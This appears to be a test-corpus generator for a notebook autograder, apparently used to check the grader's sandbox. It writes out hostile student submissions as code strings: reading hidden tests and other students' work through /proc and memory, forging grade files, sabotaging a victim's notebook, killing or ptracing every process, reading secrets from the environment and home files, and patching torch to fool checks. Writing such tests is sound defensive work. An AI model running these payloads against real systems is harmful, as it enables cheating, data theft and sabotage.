"""A corpus of hostile and broken submissions, each built from a lesson's own solutions.

`build_corpus(dest, lesson)` writes one submission per case (one student each) and returns
the cases, each with what a correct grader must give it. The honest student notebook comes
from real nbgrader: `nbgrader generate_assignment` makes the student version of the
source notebook (hidden tests stripped, answer cells blank) in a temporary course, and
the solution lines of source/ are put into its answer cells. Each case then changes
that notebook in one way.

Layouts: "flat" writes `dest/<student>_<lesson>.ipynb` (what `python -m autograder
grade-all dest` reads); "nbgrader" writes nbgrader's `dest/<student>/<lesson>/<lesson>.ipynb`
(dest being a course's submitted/ folder).

Expectations (`Case.expected_scores`): the grade_ids in `zero` must score 0, those in
`either` may score 0 or full marks (the case's text says why both are acceptable), every
other test full marks; an `ungradable` case gets no test scores at all, only score 0 and a
reason. `must_not_exist` and `must_not_change` are the side effects an attack tries to
cause, which must not happen.

Used by tests/test_hostile.py (grade-all and nbgrader autograde over the corpus) and
documented, with observed outcomes, in docs/hostile-corpus.md.
"""
import copy
import functools
import hashlib
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
from dataclasses import dataclass, field
from pathlib import Path

REPO = Path(__file__).resolve().parent.parent

# The control and the victim of the write attack: the victim sorts last, so that an attack
# that succeeded would reach its file and result before they are graded.
CONTROL = "a00-control"
VICTIM = "zz-victim"


@dataclass
class Case:
    student: str
    lesson: str
    path: Path                      # the submission file
    attack: str                     # what the submission does, in one line
    expectation: str                # the right outcome, in words
    points: dict                    # {test grade_id: max points} of the lesson (from source/)
    zero: frozenset = frozenset()   # tests that must score 0
    either: frozenset = frozenset() # tests that may score 0 or full marks
    ungradable: bool = False        # no tests run: score 0, flagged, with a reason
    must_not_exist: tuple = ()      # files the submission tries to create
    must_not_change: dict = field(default_factory=dict)  # {path: sha256 before grading}

    @property
    def max_score(self):
        return float(sum(self.points.values()))

    def expected_scores(self):
        """{grade_id: required score}; tests in `either` are left out."""
        return {gid: 0.0 if gid in self.zero else float(pts) for gid, pts in self.points.items()
                if gid not in self.either}

    @property
    def expected_total(self):
        """The total when every `either` test scores 0 and when all of them score full marks."""
        low = sum(self.expected_scores().values())
        return low, low + sum(float(self.points[g]) for g in self.either)

    def problems(self, scores):
        """What is wrong with `scores` ({grade_id: score}, None for ungradable): [] when it is right."""
        if self.ungradable:
            return [] if scores is None else [f"graded, but must be ungradable: {scores}"]
        if scores is None:
            return ["ungradable, but must be graded"]
        found = []
        if set(scores) != set(self.points):
            found.append(f"tests {sorted(scores)} are not the lesson's {sorted(self.points)}")
        for gid, want in self.expected_scores().items():
            if gid in scores and scores[gid] != want:
                found.append(f"{gid}: {scores[gid]:g}, must be {want:g}"
                             + (" (over-credit)" if scores[gid] > want else " (under-credit)"))
        for gid in self.either:
            if gid in scores and scores[gid] not in (0.0, float(self.points[gid])):
                found.append(f"{gid}: {scores[gid]:g}, must be 0 or {self.points[gid]:g}")
        return found

    def side_effects(self):
        """The attack's side effects that happened (must be [])."""
        found = [f"{p} was created" for p in self.must_not_exist if Path(p).exists()]
        found += [f"{p} was changed" for p, digest in self.must_not_change.items() if sha256(p) != digest]
        return found


def sha256(path):
    try:
        return hashlib.sha256(Path(path).read_bytes()).hexdigest()
    except OSError:
        return None


# --- the lesson: its exercises, and an honest student copy made by nbgrader -------------------------

@dataclass(frozen=True)
class Exercise:
    n: int
    answer_id: str    # qN_answer
    test_id: str      # qN_test
    kind: str         # shape, choice or lstm (from the hidden expect_* call)
    solution: str     # the solution lines of source/
    wrong: str        # a wrong answer of the right kind
    points: float


_WRONG = {"shape": "(99, 99, 99)", "choice": '"Z"', "lstm": "nn.LSTM(1, 1)", "int": "99", "function": "None",
          "tensor": "torch.tensor([99])", "module": "None", "trained": "None", "float": "99.0",
          "floats": "(99.0, 99.0)"}


def _grade_id(cell):
    nbgrader = cell.get("metadata", {}).get("nbgrader", {})
    return nbgrader.get("grade_id") if isinstance(nbgrader, dict) else None


def _solution_lines(source):
    """The answer cell's code without its first comment line and the solution markers: what an
    honest student writes (for a function exercise, the whole def and the answer line)."""
    if "### BEGIN SOLUTION" not in source:
        raise ValueError(f"no solution region in {source!r}")
    lines = [line for line in source.split("\n")[1:] if line.strip() not in ("### BEGIN SOLUTION", "### END SOLUTION")]
    return "\n".join(lines).strip("\n")


def exercises(source_nb):
    """The lesson's exercises, in order, from its source notebook."""
    cells = {_grade_id(c): c for c in source_nb.cells if _grade_id(c)}
    found = []
    for n in range(1, 100):
        answer, test = cells.get(f"q{n}_answer"), cells.get(f"q{n}_test")
        if answer is None or test is None:
            break
        kind = re.search(r"^expect_(\w+)\(", test.source, re.M).group(1)
        found.append(Exercise(n, f"q{n}_answer", f"q{n}_test", kind, _solution_lines(answer.source),
                              _WRONG[kind], float(test.metadata.nbgrader.get("points", 0))))
    if not found:
        raise ValueError("the lesson has no exercises")
    return found


def tool_env():
    """Environment for nbgrader and the grader: the venv's bin first on PATH (nbgrader runs
    `alembic` from it), the repo importable (nbgrader_config.py's plugins)."""
    env = dict(os.environ)
    env["PATH"] = str(Path(sys.executable).parent) + os.pathsep + env.get("PATH", "")
    env["PYTHONPATH"] = os.pathsep.join(filter(None, [str(REPO), env.get("PYTHONPATH")]))
    return env


@functools.lru_cache(maxsize=None)
def _released(course, lesson):
    """The student version of `lesson` (JSON text), made by `nbgrader generate_assignment`."""
    with tempfile.TemporaryDirectory(prefix="corpus-release-") as tmp:
        root = Path(tmp)
        shutil.copy(REPO / "nbgrader_config.py", root / "nbgrader_config.py")
        (root / "source" / lesson).mkdir(parents=True)
        shutil.copy(Path(course) / "source" / lesson / f"{lesson}.ipynb", root / "source" / lesson)
        done = subprocess.run(["nbgrader", "generate_assignment", lesson, "--force", "--log-level=WARN"],
                              cwd=root, env=tool_env(), capture_output=True, text=True, timeout=300)
        if done.returncode != 0:
            raise RuntimeError(f"nbgrader generate_assignment {lesson} failed:\n{done.stdout}\n{done.stderr}")
        return (root / "release" / lesson / f"{lesson}.ipynb").read_text(encoding="utf-8")


def released(lesson, course=REPO):
    import nbformat

    return nbformat.reads(_released(str(Path(course).resolve()), lesson), as_version=4)


def source_notebook(lesson, course=REPO):
    import nbformat

    return nbformat.read(str(Path(course) / "source" / lesson / f"{lesson}.ipynb"), as_version=4)


def comment_line(cell_source):
    return cell_source.split("\n", 1)[0]


def honest(lesson, course=REPO):
    """The released notebook with every answer cell holding source/'s solution lines."""
    nb = released(lesson, course)
    for ex in exercises(source_notebook(lesson, course)):
        cell = find(nb, ex.answer_id)
        cell.source = f"{comment_line(cell.source)}\n{ex.solution}"
    return nb


def find(nb, gid):
    return next(c for c in nb.cells if _grade_id(c) == gid)


def index(nb, gid):
    return next(i for i, c in enumerate(nb.cells) if _grade_id(c) == gid)


def set_answer(nb, ex, code):
    cell = find(nb, ex.answer_id)
    cell.source = f"{comment_line(cell.source)}\n{code.strip()}"


def submission_path(dest, student, lesson, layout):
    if layout == "flat":
        return Path(dest) / f"{student}_{lesson}.ipynb"
    if layout == "nbgrader":
        return Path(dest) / student / lesson / f"{lesson}.ipynb"
    raise ValueError(f"unknown layout {layout!r}")


# --- the hostile code ------------------------------------------------------------------------------

FAKE_LSTM = '''
class FakeLSTM(nn.Module):
    """Claims an LSTM's settings; has no weights and returns zeros; says it is an nn.LSTM."""
    def __init__(self, input_size, hidden_size, num_layers=1, bias=True, batch_first=False,
                 dropout=0.0, bidirectional=False, proj_size=0, **_):
        super().__init__()
        self.input_size, self.hidden_size, self.num_layers = input_size, hidden_size, num_layers
        self.bias, self.batch_first, self.dropout = bias, batch_first, float(dropout)
        self.bidirectional, self.proj_size, self.mode = bidirectional, proj_size, "LSTM"
    @property
    def __class__(self):
        return _RealLSTM
    def __eq__(self, other):
        return True
    __hash__ = nn.Module.__hash__
    def forward(self, x, hx=None):
        d = 2 if self.bidirectional else 1
        h = self.proj_size or self.hidden_size
        L, N = (x.shape[1], x.shape[0]) if self.batch_first else (x.shape[0], x.shape[1])
        out = torch.zeros(*((N, L) if self.batch_first else (L, N)), d * h)
        return out, (torch.zeros(d * self.num_layers, N, h), torch.zeros(d * self.num_layers, N, self.hidden_size))
'''


def reader_code(lesson, first, second, course, dest, layout, wrong_first, wrong_second):
    """Answers `first` from the hidden tests and `second` from another student's notebook, if it
    can read them; otherwise the wrong answers (so a score above 0 proves that it read them)."""
    hidden = Path(course).resolve() / "source" / lesson / f"{lesson}.ipynb"
    control = submission_path(Path(dest).resolve(), CONTROL, lesson, layout)
    return f'''
import ast, gc, glob, json, os, re, sys
_qid, _var = "{lesson}.q{first.n}", "answer_q{first.n}"
_pattern = re.compile(r"expect_\\w+\\(\\s*[\\"']" + re.escape(_qid) + r"[\\"']\\s*,\\s*" + _var
                      + r"\\s*,\\s*(\\([^()]*\\)|\\{{[^{{}}]*\\}}|\\"[^\\"]*\\"|'[^']*')")
def _from_text(text):
    m = _pattern.search(text) if isinstance(text, str) else None
    if not m:
        return None
    value = ast.literal_eval(m.group(1))
    return nn.LSTM(**value) if isinstance(value, dict) else value
_rel = os.path.join("source", "{lesson}", "{lesson}.ipynb")
_paths = [{str(hidden)!r}, _rel] + [os.path.join(*[".."] * k, _rel) for k in range(1, 6)]
_paths += [os.path.join(p, _rel) for p in sys.path if p]
_paths += [os.path.join(p, _rel) for p in glob.glob("/proc/*/cwd")]
_paths += [p + {str(hidden)!r} for p in glob.glob("/proc/*/root")]
_found = None
for _p in _paths:
    try:
        with open(_p, encoding="utf-8") as _f:
            _text = _f.read()
        try:  # a notebook: its cells' text
            _text = "\\n".join("".join(c["source"]) for c in json.loads(_text)["cells"])
        except Exception:
            pass
        _found = _from_text(_text)
    except Exception:
        continue
    if _found is not None:
        print("read the hidden tests at", _p)
        break
if _found is None:  # this process's memory: strings held by any object, and the stack's locals
    import warnings
    try:
        warnings.simplefilter("ignore")  # some objects warn when looked at
        _frame, _objects = sys._getframe(), gc.get_objects()
        while _frame is not None:
            _objects.append(dict(_frame.f_locals))
            _frame = _frame.f_back
        for _o in _objects:
            _values = _o.values() if isinstance(_o, dict) else _o if isinstance(_o, (list, tuple)) else ()
            for _v in list(_values):
                if isinstance(_v, str) and "expect_" in _v:
                    _found = _from_text(_v)
                    if _found is not None:
                        break
            if _found is not None:
                print("found the hidden tests in memory")
                break
        del _objects
    except Exception:
        pass
answer_q{first.n} = _found if _found is not None else {wrong_first}
answer_q{second.n} = {wrong_second}
for _p in [{str(control)!r}] + glob.glob({str(Path(dest).resolve() / "*")!r}) + glob.glob({str(Path(dest).resolve() / "*" / "*" / "*.ipynb")!r}):
    try:
        with open(_p, encoding="utf-8") as _f:
            _nb = json.load(_f)
        for _c in _nb["cells"]:
            if _c.get("metadata", {{}}).get("nbgrader", {{}}).get("grade_id") == "q{second.n}_answer":
                _lines = [l for l in "".join(_c["source"]).splitlines() if l.startswith("answer_q{second.n}")]
                if _lines:
                    exec(_lines[0])
                    print("copied from", _p)
                    raise StopIteration
    except StopIteration:
        break
    except Exception:
        continue
'''


def writer_code(lesson, student, out, dest, layout):
    """Tries to plant and forge files in the grader's output and to sabotage another student's notebook."""
    out = Path(out).resolve()
    victim = submission_path(Path(dest).resolve(), VICTIM, lesson, layout)
    return f'''
import json, os
_out, _attempts = {str(out)!r}, {{}}
def _try(name, action):
    try:
        action()
        _attempts[name] = "done"
    except Exception as err:
        _attempts[name] = type(err).__name__
def _plant(path):
    with open(path, "w") as f:
        f.write("planted by {student}\\n")
def _forge(who):
    os.makedirs(os.path.join(_out, who), exist_ok=True)
    with open(os.path.join(_out, who, "{lesson}.json"), "w") as f:
        json.dump({{"score": 999.0, "max_score": 999.0, "tests": [], "forged": True, "student": who}}, f)
def _append_csv():
    with open(os.path.join(_out, "grades.csv"), "a") as f:
        f.write("{lesson},,,{VICTIM},,,,999.0,0.0,999.0,999.0\\n")
def _sabotage():
    with open({str(victim)!r}, encoding="utf-8") as f:
        nb = json.load(f)
    for c in nb["cells"]:
        if str(c.get("metadata", {{}}).get("nbgrader", {{}}).get("grade_id", "")).endswith("_answer"):
            c["source"] = "# sabotaged by {student}\\n"
    with open({str(victim)!r}, "w", encoding="utf-8") as f:
        json.dump(nb, f)
_try("plant in OUT", lambda: _plant(os.path.join(_out, "INJECTED-{student}.txt")))
_try("forge own result", lambda: _forge("{student}"))
_try("forge victim's result", lambda: _forge("{VICTIM}"))
_try("append to grades.csv", _append_csv)
_try("sabotage victim's notebook", _sabotage)
_try("plant next to submissions", lambda: _plant({str(Path(dest).resolve() / f"INJECTED-{student}.txt")!r}))
print(_attempts)
'''


def proc_walk_code(lesson):
    """From a blank notebook: finds the course through /proc (every process's cwd and command line)
    and runs the solution cells of source/*/<lesson>.ipynb: full marks if it can read them."""
    return f"""
import glob, json, os
_roots = set()
for _p in glob.glob("/proc/*/cwd"):
    try:
        _roots.add(os.readlink(_p))
    except OSError:
        pass
for _p in glob.glob("/proc/*/cmdline"):
    try:
        with open(_p, "rb") as _f:
            _roots.update(os.path.dirname(a.decode(errors="replace")) for a in _f.read().split(b"\\0") if a.startswith(b"/"))
            _f.seek(0)
            _roots.update(a.decode(errors="replace") for a in _f.read().split(b"\\0") if a.startswith(b"/"))
    except OSError:
        pass
_done = False
for _root in sorted(_roots):
    for _up in range(4):
        _base = os.path.join(_root, *[".."] * _up)
        for _path in glob.glob(os.path.join(_base, "source", "*", "{lesson}.ipynb")):
            try:
                with open(_path, encoding="utf-8") as _f:
                    _cells = json.load(_f)["cells"]
            except (OSError, ValueError):
                continue
            for _c in _cells:
                if _c.get("metadata", {{}}).get("nbgrader", {{}}).get("solution"):
                    exec("".join(_c["source"]))
            print("ran the solutions of", _path)
            _done = True
            break
        if _done:
            break
    if _done:
        break
"""


def others_code(lesson, own):
    """From a blank notebook: looks for other students' notebooks of `lesson` anywhere it can walk to
    (its working folder's parents, /tmp, /home, every process's cwd) and runs their answer cells."""
    return f"""
import glob, json, os
_seen, _found = 0, None
_starts = [os.getcwd(), "/tmp", "/home", "/root", "/work"] + glob.glob("/proc/*/cwd")
for _start in _starts:
    for _dirpath, _dirs, _files in os.walk(_start):
        _seen += 1
        if _seen > 20000 or _dirpath.count(os.sep) > 8:
            _dirs[:] = []
            continue
        for _name in _files:
            if _name.endswith(".ipynb") and "{lesson}" in _name and "{own}" not in _name:
                try:
                    with open(os.path.join(_dirpath, _name), encoding="utf-8") as _f:
                        _cells = json.load(_f)["cells"]
                except (OSError, ValueError):
                    continue
                _answers = ["".join(c["source"]) for c in _cells if str(c.get("metadata", {{}}).get("nbgrader", {{}}).get("grade_id", "")).endswith("_answer")]
                if any("answer_q1 =" in a for a in _answers):
                    _found = os.path.join(_dirpath, _name)
                    for _a in _answers:
                        try:
                            exec(_a)
                        except Exception:
                            pass
                    break
        if _found:
            break
    if _found:
        break
print("copied from", _found)
"""


def tcp_code(port, right, wrong, var):
    """Answers right only if it can open a TCP connection to the test's listener on 127.0.0.1."""
    return f"""
import socket
try:
    _s = socket.create_connection(("127.0.0.1", {port}), timeout=2)
    _s.sendall(b"a submission got through")
    _s.close()
    {var} = {right}
except OSError as _err:
    print("no connection:", _err)
    {var} = {wrong}
"""


def signal_code(right, wrong, var):
    """Tries to kill or ptrace every other process it can name (the worker, the grading parent, other
    students' children): answers right only if one attempt succeeded."""
    return f"""
import ctypes, os, signal
_libc = ctypes.CDLL(None, use_errno=True)
_me, _hits = os.getpid(), []
_pids = {{os.getppid()}} | set(range(1, 4000))
for _pid in sorted(_pids - {{_me, 0}}):
    if _pid == 1 and _me == 1:
        continue
    try:
        os.kill(_pid, signal.SIGKILL)
        _hits.append(("kill", _pid))
    except OSError:
        pass
    if _libc.ptrace(16, _pid, None, None) == 0:  # PTRACE_ATTACH
        _hits.append(("ptrace", _pid))
print("reached", _hits[:5])
{var} = {right} if _hits else {wrong}
"""


def smuggle_code(secrets, course):
    """Reads files and variables outside the course (the grader's home, gradebook.db, the environment,
    the parent's environment) and hides what it read in the name of a class it answers with."""
    home_file, gradebook, env_name = secrets
    return f"""
import os, pwd, re
_found = []
for _path in [{str(home_file)!r}, os.path.join(pwd.getpwuid(os.getuid()).pw_dir, {Path(home_file).name!r}),
              {str(gradebook)!r}, os.path.join({str(course)!r}, "gradebook.db"), "/proc/%d/environ" % os.getppid()]:
    try:
        with open(_path, "rb") as _f:
            _found += re.findall(rb"SECRET[0-9a-f]{{20}}", _f.read())
    except OSError:
        pass
_found += re.findall(r"SECRET[0-9a-f]{{20}}", os.environ.get({env_name!r}, ""))
_name = _found[0].decode() if _found and isinstance(_found[0], bytes) else (_found[0] if _found else "NothingFound")
answer_q1 = type(_name, (), {{}})()
print("smuggling", _name)
"""


STEP_SIGNATURE = "def lstm_step(x, h, c, weight_ih, weight_hh, bias_ih, bias_hh):"


def function_attack(name):
    """lstm_step (exercise 8 of 04_cell) as each function cheat writes it; every one answers answer_q8."""
    bodies = {
        # The right numbers for the lesson's own example, returned whatever the inputs.
        "f01-constants": """
torch.manual_seed(2)
_cell = nn.LSTMCell(5, 3)
with torch.no_grad():
    _KNOWN = _cell(torch.randn(3, 5), (torch.zeros(3, 3), torch.zeros(3, 3)))
def lstm_step(x, h, c, weight_ih, weight_hh, bias_ih, bias_hh):
    return _KNOWN
""",
        # Looks for the expected result where the grader might keep it: its callers' frames, gc, globals.
        "f02-snoop": """
import gc, sys
def lstm_step(x, h, c, weight_ih, weight_hh, bias_ih, bias_hh):
    want = (x.shape[0], weight_hh.shape[1])
    found = []
    frame = sys._getframe(1)
    while frame is not None:
        found += [v for v in list(frame.f_locals.values()) if isinstance(v, tuple) and len(v) == 2
                  and all(isinstance(t, torch.Tensor) and tuple(t.shape) == want for t in v)]
        frame = frame.f_back
    found += [o for o in gc.get_objects() if isinstance(o, tuple) and len(o) == 2
              and all(isinstance(t, torch.Tensor) and tuple(t.shape) == want for t in o)]
    found += [v for v in globals().values() if isinstance(v, tuple) and len(v) == 2]
    return found[0] if found else (torch.zeros(want), torch.zeros(want))
""",
        # PyTorch's own cell, under other names.
        "f03-alias-aten": """
def lstm_step(x, h, c, weight_ih, weight_hh, bias_ih, bias_hh):
    return tuple(torch.ops.aten.lstm_cell(x, [h, c], weight_ih, weight_hh, bias_ih, bias_hh))
""",
        "f04-alias-getattr": """
_f = getattr(torch._C._VariableFunctions, "lstm" + "_cell")
def lstm_step(x, h, c, weight_ih, weight_hh, bias_ih, bias_hh):
    return _f(x, (h, c), weight_ih, weight_hh, bias_ih, bias_hh)
""",
        "f05-alias-module": """
def lstm_step(x, h, c, weight_ih, weight_hh, bias_ih, bias_hh):
    cell = nn.LSTMCell(x.shape[1], h.shape[1])
    with torch.no_grad():
        for mine, theirs in zip(cell.parameters(), (weight_ih, weight_hh, bias_ih, bias_hh)):
            mine.copy_(theirs)
    return cell(x, (h, c))
""",
        # Never returns.
        "f06-never-returns": """
def lstm_step(x, h, c, weight_ih, weight_hh, bias_ih, bias_hh):
    while True:
        pass
""",
        # Returns things that are not its results.
        "f07-bad-returns": """
def lstm_step(x, h, c, weight_ih, weight_hh, bias_ih, bias_hh):
    return [[0.0] * h.shape[1]] * x.shape[0], float("nan")
""",
        "f08-nan": """
def lstm_step(x, h, c, weight_ih, weight_hh, bias_ih, bias_hh):
    return torch.full_like(h, float("nan")), torch.full_like(c, float("inf"))
""",
        "f09-wrong-shape-dtype": """
def lstm_step(x, h, c, weight_ih, weight_hh, bias_ih, bias_hh):
    return torch.zeros(1, *h.shape, dtype=torch.float64), c.double()
""",
        # A callable object whose results claim to equal anything.
        "f10-lying-callable": """
class Anything(torch.Tensor):
    def __eq__(self, other):
        return True
    __hash__ = torch.Tensor.__hash__
class Step:
    def __call__(self, x, h, c, *weights):
        return torch.zeros_like(h).as_subclass(Anything), torch.zeros_like(c).as_subclass(Anything)
lstm_step = Step()
""",
        # The one bypass that remains: PyTorch's cell called with torch function modes off (docs/hostile-corpus.md).
        "f11-bypass-no-torch-function": """
def lstm_step(x, h, c, weight_ih, weight_hh, bias_ih, bias_hh):
    with torch._C.DisableTorchFunction():
        return torch.lstm_cell(x, (h, c), weight_ih, weight_hh, bias_ih, bias_hh)
""",
    }
    return bodies[name].strip() + "\n\nanswer_q8 = lstm_step"


def model_attack(name, solution):
    """06_model's cheats: `solution` is the honest answer cell's code, which each keeps or extends."""
    bodies = {
        # A model that memorises sequences (the notebook's training stream and test set) with their labels,
        # and answers from its table: perfect on what it has seen, its LSTM untrained.
        "m01-memorise": """
class Memoriser(SequenceClassifier):
    def __init__(self):
        super().__init__(SYMBOLS, 16, CLASSES)
        self.seen = {}
        gen = torch.Generator().manual_seed(1000)
        batches = [temporal_order(64, gen) for _ in range(20)] + [(test_x, test_y)]
        for xs, ys in batches:
            for x, y in zip(xs, ys):
                self.seen[x.argmax(1).numpy().tobytes()] = int(y)

    def forward(self, x):
        out = torch.full((x.shape[0], CLASSES), -10.0)
        for n, row in enumerate(x):
            out[n, self.seen.get(row.argmax(1).numpy().tobytes(), 0)] = 10.0
        return out


answer_q7 = Memoriser()
print("memorised", len(answer_q7.seen), "sequences; accuracy on them:", accuracy(answer_q7, test_x, test_y))
""",
        # A rule in forward that solves the task exactly, ignoring the LSTM (labels are a function of the input).
        "m03-rule": """
class Rule(SequenceClassifier):
    def forward(self, x):
        symbols = x.argmax(2)
        out = torch.full((x.shape[0], CLASSES), -10.0)
        for n, row in enumerate(symbols):
            a, b = [int(s) for s in row if s < 2][:2]
            out[n, 2 * a + b] = 10.0
        return out


answer_q7 = Rule(SYMBOLS, 16, CLASSES)
print("the rule's accuracy:", accuracy(answer_q7, test_x, test_y))
""",
        # A training loop that never ends (the answer line after it is never reached).
        "m04-endless-training": """
torch.manual_seed(0)
trained = SequenceClassifier(SYMBOLS, 16, CLASSES)
forget_bias(trained.lstm, 1.0)
while True:
    train(trained, steps=25)
answer_q7 = trained
""",
        # A training cell that floods its output: 20 MB of progress lines, then the honest answer.
        "m05-flood-training": """
for step in range(200_000):
    print(f"step {step:>7}: still training, loss going down, all fine, nothing to see here ......")
""" + "\n" + solution,
    }
    if name == "m02-snoop-judge":  # the honest class, then a subclass that looks for the expected logits
        return solution + """


import gc, os, sys
class Snooper(SequenceClassifier):
    def forward(self, x):
        want = (x.shape[0], self.head.out_features)
        found = []
        frame = sys._getframe(1)
        while frame is not None:
            found += [v for v in list(frame.f_locals.values()) if isinstance(v, torch.Tensor) and tuple(v.shape) == want]
            frame = frame.f_back
        found += [o for o in gc.get_objects() if isinstance(o, torch.Tensor) and tuple(o.shape) == want]
        for folder in (os.getcwd(), "/tmp", os.path.expanduser("~")):
            try:
                found += [torch.load(os.path.join(folder, f)) for f in os.listdir(folder) if f.endswith(".pt")]
            except Exception:
                pass
        return found[0] if found else torch.zeros(want)


answer_q5 = Snooper
"""
    return bodies[name].strip()


NO_DETACH = """
def run_chunks(lstm, x, k):
    outputs, state = [], None
    for start in range(0, x.shape[0], k):
        out, state = lstm(x[start:start + k], state)  # (h, c) carried, never detached
        outputs.append(out)
    return torch.cat(outputs), state
"""


def channel_attack(name):
    """(reference, answer cell) of each cheat on the answer channel's demo lesson (tests/channel_demo.py):
    a function that patches the class of the module it is given, one that returns a cached result, and
    two that forge what the `observe` hook reports."""
    attacks = {
        # Writes nothing into the LSTM; makes its class (and nn.Module) report the state the exercise wants.
        "c01-patch-module-class": ("demo_forget_bias", """
_real_state_dict = nn.Module.state_dict
def forget_bias(lstm, value):
    if not lstm.bias:
        raise ValueError("no biases")
    h = lstm.hidden_size
    fake = {k: v.detach().clone() for k, v in _real_state_dict(lstm).items()}
    for k in fake:
        if k.startswith("bias_"):
            fake[k][h:2 * h] = value if k.startswith("bias_ih") else 0.0
    type(lstm).state_dict = lambda self, *args, **kwargs: fake
    type(lstm).named_parameters = lambda self, *args, **kwargs: iter(fake.items())
answer_q1 = forget_bias
"""),
        # The tokens of its first call, returned for every later one.
        "c02-cached-result": ("demo_generate", """
_cache = []
def generate(model, prefix, steps):
    if _cache:
        return _cache[0]
    logits, state = model(prefix[None])
    tokens = list(prefix.tolist())
    for _ in range(steps):
        token = logits[0, -1].argmax()
        tokens.append(int(token))
        logits, state = model(token.view(1, 1), state)
    _cache.append(torch.tensor(tokens))
    return _cache[0]
answer_q6 = generate
"""),
        # No detach; replaces the reference's hook and judge so that they report a detached run.
        "c03-forge-observer": ("demo_chunks", NO_DETACH + """
def _forged(answer, lstm, x, k):
    return answer(lstm, x, k), {"norms": [0.0] * (x.shape[0] - 1) + [1.0]}
_ref = _course_answers["references"]["demo_chunks"]
_ref["observe"], _ref["extra_check"] = _forged, (lambda *args: None)
_course_answers["module_classes"]["LSTM"] = nn.LSTM
answer_q5 = run_chunks
"""),
        # No detach; torch.autograd.grad and Tensor.backward patched to see no gradient anywhere.
        "c04-patch-autograd": ("demo_chunks", NO_DETACH + """
def _no_gradient(outputs, inputs, *args, **kwargs):
    inputs = inputs if isinstance(inputs, (tuple, list)) else (inputs,)
    return tuple(torch.zeros_like(t) for t in inputs)
torch.autograd.grad = _no_gradient
torch.Tensor.backward = lambda self, *args, **kwargs: None
answer_q5 = run_chunks
"""),
    }
    reference, code = attacks[name]
    return reference, code.strip()


def gradient_attack(name):
    """07_gradients's grad_norms computed honestly, but of something else: a fresh model of the same kind and
    sizes (its own weights), or the given model on a random input of x's shape."""
    bodies = {
        "g01-other-model": """
def grad_norms(model, x):
    other = type(model)(model.input_size, model.hidden_size, num_layers=model.num_layers,
                        batch_first=model.batch_first)
    x = x.detach().requires_grad_()
    output, _ = other(x)
    last = output[:, -1] if model.batch_first else output[-1]
    (g,) = torch.autograd.grad(last.sum(), x)
    return g.norm(dim=(0, 2)) if model.batch_first else g.norm(dim=(1, 2))
""",
        "g02-other-input": """
def grad_norms(model, x):
    x = torch.randn_like(x).requires_grad_()
    output, _ = model(x)
    last = output[:, -1] if model.batch_first else output[-1]
    (g,) = torch.autograd.grad(last.sum(), x)
    return g.norm(dim=(0, 2)) if model.batch_first else g.norm(dim=(1, 2))
""",
    }
    return bodies[name].strip() + "\n\n\nanswer_q1 = grad_norms"


def generation_attack(name):
    """(reference, answer cell) of each cheat on lesson 08's exercises (source/08_generation): a tagger that
    answers from a table of the cases it could draw itself, a generate that returns its first result for
    every call, and a language model whose forward gives the rule's answer whenever a check calls it."""
    attacks = {
        "n01-memorising-tagger": ("sequence_tagger", """
class SequenceTagger(nn.Module):
    table = {}

    def __init__(self, vocab_size, embedding_dim, hidden_size, num_tags, bidirectional=False, pad_id=0):
        super().__init__()
        self.embed = nn.Embedding(vocab_size, embedding_dim, padding_idx=pad_id)
        self.lstm = nn.LSTM(embedding_dim, hidden_size, batch_first=True, bidirectional=bidirectional)
        self.head = nn.Linear(hidden_size * (2 if bidirectional else 1), num_tags)

    def forward(self, ids, lengths):
        key = (ids.numpy().tobytes(), tuple(ids.shape), torch.as_tensor(lengths).numpy().tobytes())
        if key in SequenceTagger.table:
            return SequenceTagger.table[key]
        return torch.zeros(ids.shape[0], ids.shape[1], self.head.out_features)


def _memorise(seeds=50):  # every case the checks draw from these seeds, answered by an honest packed run
    for seed in range(seeds):
        try:
            drawn = _course_answers["cases"]("sequence_tagger", seed, 6)
        except KeyError:  # the cases are the key's, which the notebook doesn't carry: nothing to memorise
            return
        for settings, ids, lengths in drawn:
            torch.manual_seed(0)
            model = SequenceTagger(**settings)
            packed = pack_padded_sequence(model.embed(ids), lengths, batch_first=True, enforce_sorted=False)
            out, _ = pad_packed_sequence(model.lstm(packed)[0], batch_first=True, total_length=ids.shape[1])
            key = (ids.numpy().tobytes(), tuple(ids.shape), torch.as_tensor(lengths).numpy().tobytes())
            SequenceTagger.table[key] = model.head(out).detach()


_memorise()
answer_q4 = SequenceTagger
"""),
        "n02-cached-generate": ("generate", """
_cache = []
def generate(model, prefix_ids, steps):
    if _cache:
        return _cache[0]
    logits, state = model(prefix_ids[None])
    ids = prefix_ids.tolist()
    for _ in range(steps):
        next_id = logits[0, -1].argmax()
        ids.append(int(next_id))
        logits, state = model(next_id.view(1, 1), state)
    _cache.append(torch.tensor(ids))
    return _cache[0]
answer_q5 = generate
"""),
        "n03-judge-detecting-lm": ("anbn_lm", """
import inspect


class RuleLM(CharLM):
    def forward(self, ids, state=None):
        logits, state = super().forward(ids, state)
        judged = any(f.function.startswith(("check_", "expect_", "trained", "probe", "call_")) or
                     "verdict" in f.function for f in inspect.stack())
        if judged:  # the rule itself: after the first b, b while fewer b's than a's, then $
            a, b = (ids == A).cumsum(1), (ids == B).cumsum(1)
            rule = torch.where((b > 0) & (b < a), B, torch.where((b > 0) & (b == a), END, A))
            logits = 10.0 * nn.functional.one_hot(rule, len(VOCAB)).float()
        return logits, state


torch.manual_seed(0)
answer_q8 = RuleLM(len(VOCAB), 4, 16)   # untrained
"""),
    }
    reference, code = attacks[name]
    return reference, code.strip()


CHANNEL_CASES = ("c01-patch-module-class", "c02-cached-result", "c03-forge-observer", "c04-patch-autograd")
GRADIENT_CASES = ("g01-other-model", "g02-other-input")
GENERATION_CASES = ("n01-memorising-tagger", "n02-cached-generate", "n03-judge-detecting-lm")
MODEL_CASES = ("m01-memorise", "m02-snoop-judge", "m03-rule", "m04-endless-training", "m05-flood-training")

# 05_sequences' last_valid, answered without reading lengths: each sequence's last step whose features are not
# all zero. The judge's padded outputs hold real steps that are exactly zero and padding that is not. And its
# run_in_chunks answered by one pass over the whole sequence, whose final state is right, run on x.detach() so
# that no gradient reaches an earlier chunk: the observed gradient then reaches no chunk's own steps either.
SEQUENCE_CASES = ("s01-last-valid-without-lengths", "s02-chunks-faked-by-detached-inputs")
LAST_VALID_WITHOUT_LENGTHS = """
def last_valid(output, lengths, batch_first=True):
    rows = output if batch_first else output.transpose(0, 1)
    real = (rows != 0).any(-1)
    last = torch.tensor([int(r.nonzero().max()) if r.any() else 0 for r in real])
